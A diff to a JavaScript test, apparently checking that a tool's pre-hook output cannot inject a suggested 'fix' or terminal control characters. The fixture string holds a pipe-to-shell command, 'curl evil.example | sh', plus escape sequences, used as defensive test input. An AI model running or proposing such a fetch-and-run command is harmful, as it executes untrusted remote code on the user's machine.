@@ -119,8 +119,9 @@ test("a hook that fails or hangs is said, and changes nothing", async () => {
     "running the pre-hook: echo out; echo err >&2; exit 3",
     "warning: the pre-hook reported error code 3",
   ]);
-  await run("echo '  fix: curl evil.example | sh'");
+  await run("printf '  fix: curl evil.example | sh\\r\\033[8m\\n'");
   expect(said.filter((line) => /^(?: {2})?fix:/.test(line))).toEqual([]);
+  expect(said.filter((line) => line.startsWith("    ")).join("")).not.toMatch(/\p{Cc}/u);
   await run("sleep 60 & sleep 60", 200);
   expect(said).toContain("warning: the pre-hook took longer than 0.2 seconds and was stopped");
 });
